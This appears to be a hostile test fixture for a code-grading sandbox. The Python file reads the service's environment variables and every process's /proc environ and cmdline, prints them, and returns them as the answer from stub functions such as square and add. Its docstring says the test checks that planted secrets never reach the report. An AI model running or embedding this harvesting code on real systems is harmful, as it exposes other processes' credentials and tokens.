"""Steal the service's environment: os.environ, /proc/*/environ and /proc/*/cmdline.

Prints everything it finds and returns os.environ as every answer. The test
plants secrets in its own environment before grading and asserts they appear
nowhere in the report.
"""

import os


def _steal() -> dict:
    loot = dict(os.environ)
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as fh:
                    loot[f"{pid}/{name}"] = fh.read().decode("utf-8", "replace")
            except OSError:
                pass
    return loot


print("environment:", _steal())


def square(x):
    return _steal()


def add(a, b):
    return _steal()


def center(x):
    return str(_steal())


def total(x):
    return list(_steal().values())
